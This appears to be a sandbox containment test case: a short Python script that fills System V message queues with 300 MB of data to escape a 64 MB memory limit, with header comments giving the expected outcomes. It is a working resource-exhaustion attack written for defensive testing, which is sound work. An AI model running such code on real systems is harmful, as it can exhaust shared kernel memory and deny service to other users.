# attack: fills System V queues with 300 MB of messages, with 64 MB allowed
# family: exhaustion
# walls: cgroup, watchdog, rlimits, scratch
# limits: --memory-mb 64 --disk-mb 16 --timeout 20s
# outcome: out_of_memory|failed|completed
# without: escaped
from attack import *
import time

text = ctypes.create_string_buffer(8 + 8000)
text[0] = 1
sent = 0
while sent < 300 << 20:
    queue = call(68, 0, 0o1600)
    if isinstance(queue, str):
        held("msgget %s" % queue)
    while call(69, queue, text, 8000, 0o4000) == 0:
        sent += 8000
    if sent == 0:
        held("msgsnd %s" % call(69, queue, text, 8000, 0o4000))
time.sleep(0.5)
escaped("300 MB in queues")
